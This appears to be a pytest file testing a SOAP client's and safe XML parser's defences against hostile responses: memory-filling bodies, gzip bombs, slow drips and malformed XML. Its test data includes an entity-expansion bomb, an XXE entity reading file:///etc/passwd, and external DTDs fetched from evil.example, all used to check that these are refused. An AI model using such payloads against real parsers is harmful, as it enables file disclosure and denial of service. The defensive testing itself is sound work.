"""Answers that mean to fill the memory or the time of whoever reads them."""

from __future__ import annotations

import asyncio
import gzip
import tracemalloc
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import replace

import httpx
import pytest

from shared.clock import SystemIds
from shared.gateways.catalogue import FIND, SERVICES
from shared.gateways.shep import Shep
from shared.gateways.soap import Login
from shared.security import distrust
from shared.security.distrust import Distrusted
from shared.security.safe_xml import MOST_MARKS, parse
from tests.gateways.recorded import Server, streamed
from tests.gateways.wire import CLOCK, SENDER, near

MEGABYTE = 1024 * 1024
ASKED = {"applicationId": "a"}
OPENING = b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"><e:Body><x>'
BOMB = b"""<?xml version="1.0"?><!DOCTYPE e [<!ENTITY a "0123456789"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><e x="&d;&d;&d;">&d;</e>"""

Pieces = Callable[[asyncio.StreamWriter], Awaitable[None]]


@asynccontextmanager
async def serving(head: bytes, body: Pieces, timeout: float = 20.0) -> AsyncIterator[Callable[[], Awaitable[object]]]:
    """A real server that answers so; gives one exchange of our client with it."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await reader.readuntil(b"\r\n\r\n")
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n" + head + b"\r\n")
            await body(writer)
            writer.close()
        except ConnectionError:
            return

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    async with httpx.AsyncClient(trust_env=False) as http:
        client = Shep(http, f"http://127.0.0.1:{port}/shep", Login(SENDER), near(), CLOCK, SystemIds())
        service = replace(SERVICES[FIND], timeout=timeout)
        yield lambda: client.exchange(service, ASKED, "ask", CLOCK.machine_now())
    server.close()


def so_many(megabytes: int, piece: bytes = b"x" * 65_536) -> Pieces:
    async def write(writer: asyncio.StreamWriter) -> None:
        writer.write(OPENING)
        for _ in range(megabytes * MEGABYTE // len(piece)):
            writer.write(piece)
            await writer.drain()

    return write


@pytest.mark.parametrize(
    "head", [b"Content-Length: 20971520\r\n", b"Connection: close\r\n"], ids=["honest", "without a length"]
)
async def test_twenty_megabytes_are_refused_and_never_held(head: bytes) -> None:
    async with serving(head, so_many(20)) as exchange:
        with pytest.raises(Distrusted):  # what is compiled and imported once is so before it is measured
            await exchange()
        tracemalloc.start()
        try:
            with pytest.raises(distrust.TooLarge):
                await exchange()
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
    assert peak < 3 * MEGABYTE


async def test_what_is_packed_is_not_unpacked() -> None:
    packed = gzip.compress(OPENING + b" " * (20 * MEGABYTE))
    server = Server(lambda _: streamed(packed, packed="gzip"))
    with pytest.raises(distrust.Unreadable):
        await server.shep(CLOCK).exchange(SERVICES[FIND], ASKED, "ask", CLOCK.machine_now())


async def test_whoever_drips_is_not_waited_for() -> None:
    async def drip(writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(b" ")
            await writer.drain()
            await asyncio.sleep(0.02)

    async with serving(b"Connection: close\r\n", drip, timeout=0.3) as exchange:
        with pytest.raises(TimeoutError):
            await exchange()


async def test_a_question_larger_than_its_service_takes_is_not_sent() -> None:
    server = Server(b"")
    service = replace(SERVICES[FIND], most_asked=100)
    with pytest.raises(distrust.TooLarge):
        await server.shep(CLOCK).exchange(service, ASKED, "ask", CLOCK.machine_now())
    assert server.asked == []


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (BOMB, distrust.EntitiesFound),
        (b'<!DOCTYPE e SYSTEM "http://evil.example/e.dtd"><e/>', distrust.DoctypeFound),
        (b'<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]><e>&x;</e>', distrust.EntitiesFound),
        (b'<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><e/>', distrust.EntitiesFound),
        (b"\xef\xbb\xbf<!DOCTYPE e><e/>", distrust.DoctypeFound),
        ("<!DOCTYPE e><e/>".encode("utf-16"), distrust.Unreadable),
        ("<e/>".encode("utf-16-le"), distrust.Unreadable),
        (b'<?xml version="1.0" encoding="UTF-7"?><e>+ADw-</e>', distrust.Unreadable),
        (b'<?xml version="1.0" encoding="windows-1251"?><e>\xe0</e>', distrust.Unreadable),
        (b"<e>&undeclared;</e>", distrust.Unreadable),
        (b"<e>\xff</e>", distrust.Unreadable),
        (b"<e>" + b"<a/>" * MOST_MARKS + b"</e>", distrust.TooLarge),
        (b"<a>" * 300 + b"</a>" * 300, distrust.Unreadable),
        (b"", distrust.Unreadable),
        (b"{}", distrust.Unreadable),
    ],
)
def test_what_no_message_has_is_refused_before_it_is_a_tree(content: bytes, expected: type[Distrusted]) -> None:
    with pytest.raises(Distrusted) as refused:
        parse(content)
    assert type(refused.value) is expected


def test_a_bomb_costs_nothing_to_refuse() -> None:
    tracemalloc.start()
    try:
        with pytest.raises(distrust.EntitiesFound):
            parse(BOMB)
        assert tracemalloc.get_traced_memory()[1] < MEGABYTE // 4
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("content", [b"<e/>", b'\xef\xbb\xbf<?xml version="1.0" encoding="utf-8"?><e/>'])
def test_what_is_plain_is_read(content: bytes) -> None:
    assert parse(content).tag == "e"
